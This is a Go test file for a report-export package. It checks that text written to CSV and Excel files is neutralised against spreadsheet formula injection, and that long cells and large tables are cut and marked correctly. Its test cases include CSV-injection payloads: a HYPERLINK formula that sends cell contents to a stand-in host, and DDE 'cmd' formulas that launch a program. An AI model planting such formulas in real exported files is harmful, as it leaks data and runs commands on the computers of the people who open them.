package output

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/leadline/leadline/queries"
	"github.com/xuri/excelize/v2"
)

// Text a spreadsheet would run as a formula (OWASP "CSV Injection" lists
// =, +, -, @, tab and carriage return as the starts to neutralise), and
// text that only looks like it.
var formulaCases = []struct{ in, want string }{
	{`=HYPERLINK("http://x.example/?"&A1,"open")`, `'=HYPERLINK("http://x.example/?"&A1,"open")`},
	{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
	{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"-", "'-"},
	{"-12.50", "-12.50"}, // a plain number is no formula
	{"+7", "+7"},
	{"-1.5e-3", "-1.5e-3"},
	{"Pellin = Deck", "Pellin = Deck"},
	{"", ""},
	{"'=already quoted", "'=already quoted"},
}

func TestNeutralizeText(t *testing.T) {
	for _, c := range formulaCases {
		if got := NeutralizeText(c.in); got != c.want {
			t.Errorf("%q: %q, want %q", c.in, got, c.want)
		}
	}
}

// The SQL form of the rule (for the CSV files DuckDB writes) gives the
// same text as the Go form for every case.
func TestNeutralizeTextSQLMatchesGo(t *testing.T) {
	db, err := sql.Open("duckdb", "")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	q := "SELECT " + queries.Render("output_neutral_text", map[string]string{"col": "CAST(? AS VARCHAR)"})
	for _, c := range formulaCases {
		var got string
		if err := db.QueryRow(q, c.in, c.in, c.in, c.in).Scan(&got); err != nil {
			t.Fatal(err)
		}
		if got != c.want || got != NeutralizeText(c.in) {
			t.Errorf("%q: SQL gives %q, Go %q, want %q", c.in, got, NeutralizeText(c.in), c.want)
		}
	}
}

func formulaTable() *Table {
	d, _ := NewDecimal("-12.50")
	rows := [][]any{}
	for _, c := range formulaCases {
		rows = append(rows, []any{c.in, d, int64(-3)})
	}
	return NewTable("formulas", "", "test", []string{"=note", "amount", "n"}, rows, map[string]Kind{"=note": Text, "amount": Money})
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// Text cells and headings are neutralised in CSV; numbers stay numbers;
// KeepFormulas writes the text raw.
func TestCSVNeutralisesFormulas(t *testing.T) {
	for _, keep := range []bool{false, true} {
		tb := formulaTable()
		tb.KeepFormulas = keep
		var b bytes.Buffer
		if err := WriteCSV(&b, tb); err != nil {
			t.Fatal(err)
		}
		recs := readCSV(t, b.Bytes())
		wantHead := "'=note"
		if keep {
			wantHead = "=note"
		}
		if recs[0][0] != wantHead {
			t.Errorf("keep=%v: heading %q", keep, recs[0][0])
		}
		for i, c := range formulaCases {
			want := c.want
			if keep {
				want = c.in
			}
			// encoding/csv reads a lone \r inside quotes as \n; compare what matters.
			got := strings.ReplaceAll(recs[i+1][0], "\n", "\r")
			if got != strings.ReplaceAll(want, "\n", "\r") {
				t.Errorf("keep=%v: %q written as %q, want %q", keep, c.in, got, want)
			}
			if recs[i+1][1] != "-12.50" || recs[i+1][2] != "-3" {
				t.Errorf("keep=%v: numbers changed: %v", keep, recs[i+1])
			}
		}
	}
}

// A table whose rows come from a query is written whole by DuckDB, with
// the same neutralisation done in the SELECT.
func TestSourceCSVNeutralisesFormulas(t *testing.T) {
	db, err := sql.Open("duckdb", "")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	db.SetMaxOpenConns(1)
	if _, err := db.Exec("CREATE TABLE src (k INTEGER, note VARCHAR, amount DECIMAL(18,2))"); err != nil {
		t.Fatal(err)
	}
	for i, c := range formulaCases {
		if _, err := db.Exec("INSERT INTO src VALUES (?, ?, -12.50)", i, c.in); err != nil {
			t.Fatal(err)
		}
	}
	for _, keep := range []bool{false, true} {
		tb := NewTable("src", "", "test", []string{"k", "note", "amount"}, nil, map[string]Kind{"k": Count, "note": Text, "amount": Money})
		tb.Source = &Source{DB: db, SQL: "SELECT k, note, amount FROM src WHERE k >= ? ORDER BY k", Args: []any{0}}
		tb.KeepFormulas = keep
		var b bytes.Buffer
		if err := WriteCSV(&b, tb); err != nil {
			t.Fatal(err)
		}
		recs := readCSV(t, b.Bytes())
		if len(recs) != len(formulaCases)+1 || strings.Join(recs[0], ",") != "k,note,amount" {
			t.Fatalf("keep=%v: %d records, heading %v", keep, len(recs), recs[0])
		}
		for i, c := range formulaCases {
			want := c.want
			if keep {
				want = c.in
			}
			got := strings.ReplaceAll(recs[i+1][1], "\n", "\r")
			if got != strings.ReplaceAll(want, "\n", "\r") {
				t.Errorf("keep=%v: %q written as %q, want %q", keep, c.in, got, want)
			}
			if recs[i+1][2] != "-12.50" {
				t.Errorf("amount written as %q", recs[i+1][2])
			}
		}
	}
}

// The workbook keeps formula-like text as text cells (never a formula),
// unquoted, and cuts text at the cell limit with a mark, counted on the
// table, in its sheet note and in the run's notes.
func TestWorkbookTextStaysTextAndLongTextIsMarked(t *testing.T) {
	tb := formulaTable()
	long := strings.Repeat("x", CellLimit+500)
	tb.Rows = append(tb.Rows, []any{long, nil, nil})
	run := &Run{Manifest: &Manifest{}, Tables: []*Table{tb}, Summary: Summary{Notes: []string{}}}
	path := filepath.Join(t.TempDir(), "w.xlsx")
	if err := WriteXLSX(path, run); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheet := SheetNames(run.Tables)[tb.Name]
	for i, c := range formulaCases {
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		if c.in == "" {
			continue
		}
		v, _ := f.GetCellValue(sheet, cell)
		fm, _ := f.GetCellFormula(sheet, cell)
		ty, _ := f.GetCellType(sheet, cell)
		if v != c.in || fm != "" || (ty != excelize.CellTypeSharedString && ty != excelize.CellTypeInlineString) {
			t.Errorf("%s: value %q formula %q type %v, want the text %q", cell, v, fm, ty, c.in)
		}
	}
	cell, _ := excelize.CoordinatesToCellName(1, len(formulaCases)+2)
	v, _ := f.GetCellValue(sheet, cell)
	if utf16Len(v) > CellLimit || !strings.HasPrefix(v, "xxxx") || !strings.Contains(v, "cut at the workbook's cell limit") ||
		!strings.Contains(v, "tables/formulas.csv") {
		t.Errorf("long text: %d characters, ends %q", utf16Len(v), v[max(0, len(v)-120):])
	}
	if tb.CellsCut != 1 || !strings.Contains(SheetNote(tb), "1 text cell(s) cut") {
		t.Errorf("cells cut %d, note %q", tb.CellsCut, SheetNote(tb))
	}
	if len(run.Summary.Notes) != 1 || !strings.Contains(run.Summary.Notes[0], "1 text cell(s)") {
		t.Errorf("run notes: %q", run.Summary.Notes)
	}
	rows, _ := f.GetRows(SummarySheet)
	found := false
	for _, r := range rows {
		found = found || strings.Contains(strings.Join(r, " "), "1 text cell(s) cut")
	}
	if !found {
		t.Error("the summary sheet does not say that a cell was cut")
	}
}

// A surrogate pair is never split by the cut.
func TestCutTextKeepsSurrogatePairs(t *testing.T) {
	s := strings.Repeat("\U0001F600", CellLimit)
	got, cut := cutText(s, "t")
	if !cut || utf16Len(got) > CellLimit || !strings.Contains(got, "[cut") || strings.ContainsRune(got, '\uFFFD') {
		t.Errorf("cut %v, %d units", cut, utf16Len(got))
	}
	if _, cut := cutText(strings.Repeat("y", CellLimit), "t"); cut {
		t.Error("text at the limit was cut")
	}
}

// A table with a source is written whole to CSV and Parquet; its sheet
// stops at the sheet's row limit, and the summary says so with the count
// and where the rest is.
func TestSourceTableWholeInFilesCutInSheet(t *testing.T) {
	db, err := sql.Open("duckdb", "")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	db.SetMaxOpenConns(1)
	old := maxSheetRows
	maxSheetRows = 4
	defer func() { maxSheetRows = old }()
	tb := NewTable("big", "Big", "extract", []string{"k", "amount"}, [][]any{{int64(1), "0.01"}}, map[string]Kind{"k": Count, "amount": Money})
	tb.Source = &Source{DB: db, SQL: "SELECT i AS k, CAST(i / 100 AS DECIMAL(18,2)) AS amount FROM range(1, ? + 1) t(i) ORDER BY i", Args: []any{10}}
	tb.RowsTotal, tb.Complete, tb.Truncated = 10, true, true
	out := t.TempDir()
	run := &Run{Manifest: &Manifest{}, Tables: []*Table{tb}}
	if _, err := WriteAll(context.Background(), out, run, Options{NoRegistered: true}); err != nil {
		t.Fatal(err)
	}
	b, _ := os.ReadFile(filepath.Join(out, TablesDir, "big.csv"))
	recs := readCSV(t, b)
	if len(recs) != 11 || recs[10][0] != "10" || recs[10][1] != "0.10" {
		t.Errorf("CSV: %d records, last %v", len(recs), recs[len(recs)-1])
	}
	var n int64
	var sum string
	if err := db.QueryRow("SELECT count(*), CAST(sum(amount) AS VARCHAR) FROM read_parquet(?)", filepath.Join(out, TablesDir, "big.parquet")).Scan(&n, &sum); err != nil || n != 10 || sum != "0.55" {
		t.Errorf("Parquet: %d rows, sum %s (%v)", n, sum, err)
	}
	f, err := excelize.OpenFile(filepath.Join(out, WorkbookFile))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, _ := f.GetRows("big")
	if len(rows) != 5 || tb.SheetRows != 4 {
		t.Errorf("sheet: %d rows, SheetRows %d", len(rows), tb.SheetRows)
	}
	note := SheetNote(tb)
	if !strings.Contains(note, "first 4 of 10 rows") || !strings.Contains(note, "tables/big.csv") {
		t.Errorf("note %q", note)
	}
	summary, _ := f.GetRows(SummarySheet)
	found := false
	for _, r := range summary {
		found = found || strings.Contains(strings.Join(r, "|"), note)
	}
	if !found {
		t.Error("the summary's sheet list lacks the note")
	}
}
